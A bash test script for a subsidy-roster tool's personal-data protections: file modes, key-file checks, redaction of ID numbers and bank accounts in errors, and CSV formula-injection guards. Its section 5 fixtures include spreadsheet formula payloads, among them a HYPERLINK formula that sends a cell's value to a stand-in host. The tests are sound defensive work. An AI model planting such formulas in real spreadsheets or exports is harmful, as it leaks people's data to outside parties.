#!/usr/bin/env bash
# Personal data, second review (issue 4): no birth date beside a masked ID,
# a database file of mode 0600, a key file must match in both keys (older
# databases are checked by decrypting their data), misplaced ID numbers and
# accounts are never quoted in messages, reject files 0600, a key file of
# another owner or a FIFO is refused, CSV output guards against formulas.
. "$(dirname "$0")/lib.sh"
O="$TESTDATA/subsidy/ops"
cd "$SCRATCH" || exit 1
umask 022
db=pd.db

cat >roster.csv <<'R'
programme,period,id_number,name,village,bank_account,amount_fen
GL01,202303,410102196001011230,王五,410102001001,6217000000000020002,30000
GL01,202303,410102196002021238,李四,410102001001,6217000000000020010,30000
R
"$MINSHENG" subsidy programme import "$O/programmes.csv" --db $db >/dev/null
# 1b. the database minsheng creates is 0600 whatever the umask
[ "$(stat -c %a $db)" = 600 ] && _pass || _fail "new database has mode $(stat -c %a $db)"
run "$MINSHENG" subsidy roster import roster.csv --db $db
expect_status 0
[ "$(stat -c %a $db)" = 600 ] && _pass || _fail "database mode $(stat -c %a $db) after import"
# an existing database keeps its mode
"$MINSHENG" subsidy programme import "$O/programmes.csv" --db other.db >/dev/null
chmod 640 other.db
"$MINSHENG" subsidy programme import "$O/programmes.csv" --db other.db >/dev/null
[ "$(stat -c %a other.db)" = 640 ] && _pass || _fail "existing database mode changed to $(stat -c %a other.db)"
# the -wal and -shm SQLite makes have the database's mode: seen while
# another connection keeps them (the last one to close removes them)
if command -v sqlite3 >/dev/null; then
	rm -f w.db
	"$MINSHENG" subsidy programme import "$O/programmes.csv" --db w.db >/dev/null
	(echo "BEGIN; SELECT count(*) FROM programme;"; sleep 3) | sqlite3 w.db >/dev/null &
	holder=$!
	sleep 1
	"$MINSHENG" subsidy programme import "$O/programmes.csv" --db w.db >/dev/null
	for f in w.db-wal w.db-shm; do
		[ "$(stat -c %a $f 2>/dev/null)" = 600 ] && _pass ||
			_fail "$f has mode '$(stat -c %a $f 2>/dev/null)', expected 600"
	done
	wait $holder
fi

# 1a. the masked list shows no birth date (the 8 hidden digits of the ID)
run "$MINSHENG" subsidy beneficiary list --db $db
expect_status 0
expect_out "王*	410102********1230	男	****-**-**	410102001001"
expect_no_out "1960-01-01"
expect_no_out "19600101"
run "$MINSHENG" subsidy beneficiary list --db $db --format csv
expect_status 0
expect_out ",410102********1238,M,****-**-**,410102001001,"
expect_no_out "1960-02-02"
# with --unmask (and the key) it is there
run "$MINSHENG" subsidy beneficiary list --db $db --unmask --format csv
expect_status 0
expect_out ",王五,410102196001011230,M,1960-01-01,410102001001,6217000000000020002"
# the other masked outputs carry no birth date either
run "$MINSHENG" subsidy disclose --programme GL01 --period 202303 --db $db
expect_status 0
expect_out "410102********1230"
expect_no_out "1960"
run "$MINSHENG" subsidy anomalies --format json --db $db
expect_status 0
expect_no_out "1960"

# 2. a key file with the right mac key and another enc key is refused
cp $db.key good.key
flip_enc() { # $1 in, $2 out: first hex digit of the enc key changed
	awk 'NR == 2 { c = substr($2, 1, 1); n = (c == "0") ? "1" : "0";
		$2 = n substr($2, 2) } { print }' "$1" >"$2"
	chmod 600 "$2"
}
flip_enc good.key badenc.key
cmp -s good.key badenc.key && _fail "badenc.key is the same key"
printf 'programme,period,id_number,name,village,bank_account,amount_fen\nGL01,202303,410102196003031235,赵六,410102001001,6217000000000020028,30000\n' >r2.csv
run "$MINSHENG" subsidy roster import r2.csv --db $db --key badenc.key
expect_status 1
expect_err "密钥文件 'badenc.key' 与数据库 '$db' 不匹配"
run "$MINSHENG" subsidy beneficiary list --db $db --unmask --key badenc.key
expect_status 1
expect_err "不匹配"
expect_no_out "410102"
run "$MINSHENG" subsidy disclose --programme GL01 --period 202303 --db $db --key badenc.key
expect_status 1
expect_err "不匹配"
# an older database (only the mac fingerprint) is checked by its data: one
# made before the binding (t3010's fixture, its version-1 key); a bound
# database never lacks key_check2 (t3010: refused as altered)
if command -v sqlite3 >/dev/null; then
	odb=old.db
	sqlite3 $odb <"$SRCDIR/tests/cli/t3010-old-format.sql" || _fail "old database"
	cp "$SRCDIR/tests/cli/t3010-old-format.key" old.key
	chmod 600 old.key
	flip_enc old.key oldbad.key
	sqlite3 $odb "DELETE FROM subsidy_meta WHERE name = 'key_check2'"
	run "$MINSHENG" subsidy roster import r2.csv --db $odb --key oldbad.key
	expect_status 1
	expect_err "不匹配"
	[ "$(sqlite3 $odb "SELECT count(*) FROM subsidy_meta WHERE name = 'key_check2'")" = 0 ] &&
		_pass || _fail "key_check2 stored for a wrong key"
	run "$MINSHENG" subsidy beneficiary list --db $odb --key old.key
	expect_status 0
	[ "$(sqlite3 $odb "SELECT count(*) FROM subsidy_meta WHERE name = 'key_check2'")" = 1 ] &&
		_pass || _fail "key_check2 not stored after the right key was verified"
	run "$MINSHENG" subsidy beneficiary list --db $odb --unmask --key oldbad.key
	expect_status 1
	expect_err "不匹配"
fi
run "$MINSHENG" subsidy roster import r2.csv --db $db
expect_status 0
run "$MINSHENG" subsidy beneficiary list --db $db --unmask
expect_out "410102196003031235"

# 3. misplaced columns: no ID number or account in messages or reject files
cat >bad.csv <<'R'
programme,period,id_number,name,village,bank_account,amount_fen
GL01,202303,410102196002021238,李四,410102196002021238,6217000000000020010,30000
410102196002021238,202303,410102196002021238,李四,410102001001,6217000000000020010,30000
GL01,202303,410102196002021238,李四,6217000000000020010,410102001001,30000
GL01,6217000000000020010,410102196002021238,李四,410102001001,6217000000000020010,30000
GL01,202303,410102196002021238,李四,410102001001,6217000000000020010,6217000000000020010
GL01,202303,410102196002021238,李四,410102001001,6217000000000020010,30000x
R
run "$MINSHENG" subsidy roster import bad.csv --partial --rejects rej.csv --db $db
expect_status 1
for secret in 196002021238 0000000020010 6217000000000020010; do
	grep -q "$secret" "$SCRATCH/.err" && _fail "stderr quotes '$secret'" || _pass
	grep -q "$secret" rej.csv && _fail "rej.csv quotes '$secret'" || _pass
done
expect_err "村（社区）代码 '（疑似身份证号或银行账号，已隐去）' 无效"
expect_err "未知的补贴项目 '（疑似身份证号或银行账号，已隐去）'"
expect_err "金额 '30000x' 无效"
[ "$(grep -c '疑似身份证号或银行账号' rej.csv)" = 5 ] && _pass || _fail "rej.csv: $(cat rej.csv)"
# the reject file is 0600 whatever the umask or the file it replaces
[ "$(stat -c %a rej.csv)" = 600 ] && _pass || _fail "rej.csv has mode $(stat -c %a rej.csv)"
echo old >rej2.csv
chmod 666 rej2.csv
(umask 000 && run "$MINSHENG" subsidy roster import bad.csv --partial --rejects rej2.csv --db $db)
[ "$(stat -c %a rej2.csv)" = 600 ] && _pass || _fail "rej2.csv has mode $(stat -c %a rej2.csv)"
# officials: an account in the village column; deaths: an ID as the date
printf 'id_number,name,village,role\n410102196001011230,王五,6217000000000020002,村委委员\n' >off.csv
run "$MINSHENG" subsidy officials import off.csv --db $db
expect_status 1
expect_err "村级单位代码 '（疑似身份证号或银行账号，已隐去）' 无效"
grep -q 6217000000000020002 "$SCRATCH/.err" && _fail "officials stderr quotes the account" || _pass
printf 'id_number,date_of_death\n410102196001011230,410102196002021238\n' >dea.csv
run "$MINSHENG" subsidy deaths import dea.csv --db $db
expect_status 1
expect_err "死亡日期 '（疑似身份证号或银行账号，已隐去）' 无效"
grep -q 196002021238 "$SCRATCH/.err" && _fail "deaths stderr quotes the ID" || _pass
# a bad date that is no number is still explained
printf 'id_number,date_of_death\n410102196001011230,2023-13-01\n' >dea2.csv
run "$MINSHENG" subsidy deaths import dea2.csv --db $db
expect_status 1
expect_err "月份应在 01 到 12 之间"

# 4. a key file owned by another user is refused (only root can make one)
if [ "$(id -u)" = 0 ]; then
	cp -p $db.key nobody.key
	chown 65534:65534 nobody.key
	run "$MINSHENG" subsidy beneficiary list --db $db --unmask --key nobody.key
	expect_status 1
	expect_err "密钥文件 'nobody.key' 的属主（用户 65534）不是当前用户（用户 0），拒绝使用"
	expect_no_out "410102"
	run "$MINSHENG" subsidy roster import r2.csv --db $db --key nobody.key
	expect_status 1
	expect_err "属主"
	# and nobody may not use root's key either
	if command -v setpriv >/dev/null; then
		mkdir nb && cp $db nb/ && cp -p $db.key nb/ && chown -R 65534:65534 nb
		chown 0:0 nb/$db.key
		run setpriv --reuid=65534 --regid=65534 --clear-groups "$MINSHENG" subsidy \
			beneficiary list --db nb/$db --unmask
		expect_status 1
		expect_err "无法读取密钥文件"
	fi
fi

# 5. formula injection: names starting with = + - @ are refused ...
cat >f.csv <<'R'
programme,period,id_number,name,village,bank_account,amount_fen
GL01,202303,410102196006061237,=1+2,410102001001,6217000000000020051,30000
GL01,202303,410102196007071234,"=HYPERLINK(""http://x/""&C2,""a"")",410102001001,6217000000000020069,30000
GL01,202303,410102195001010014,@SUM(A1),410102001001,6217000000000090005,30000
R
run "$MINSHENG" subsidy roster import f.csv --partial --db $db
expect_status 1
expect_out "接受 0 行，拒绝 3 行"
expect_err "f.csv:2:4: 姓名不能以 = + - @ 开头（电子表格会当作公式） [bad_name]"
printf 'id_number,name,village,role\n410102196001011230,-王五,410102001001,村委委员\n' >off2.csv
run "$MINSHENG" subsidy officials import off2.csv --db $db
expect_status 1
expect_err "off2.csv:2:2: 姓名不能以 = + - @ 开头"
# ... and a name already in a database is written as text in CSV output
if command -v sqlite3 >/dev/null; then
	sqlite3 $db "UPDATE beneficiary SET name = '=1+2' WHERE name = '王五';
		UPDATE programme SET name = '+cmd', department = '@x' WHERE code = 'GL01'"
	run "$MINSHENG" subsidy beneficiary list --db $db --unmask --format csv
	expect_out ",'=1+2,410102196001011230,"
	run "$MINSHENG" subsidy beneficiary list --db $db --format csv
	expect_out ",'=1*2,410102********1230,"
	run "$MINSHENG" subsidy disclose --programme GL01 --period 202303 --format csv --db $db
	expect_status 0
	expect_out "'=1*2,410102********1230,"
	run "$MINSHENG" subsidy programme list --format csv --db $db
	expect_out "GL01,'+cmd,'@x,"
	# text output is not CSV: unchanged
	run "$MINSHENG" subsidy disclose --programme GL01 --period 202303 --db $db
	expect_out "	=1*2	"
fi

# 7. a FIFO at the key path is refused at once, not waited on
mkfifo fifo.key
run timeout 20 "$MINSHENG" subsidy beneficiary list --db $db --unmask --key fifo.key
expect_status 1
expect_err "密钥文件 'fifo.key' 不是普通文件（是命名管道）"
run timeout 20 "$MINSHENG" subsidy roster import r2.csv --db $db --key fifo.key
expect_status 1
expect_err "不是普通文件"
finish
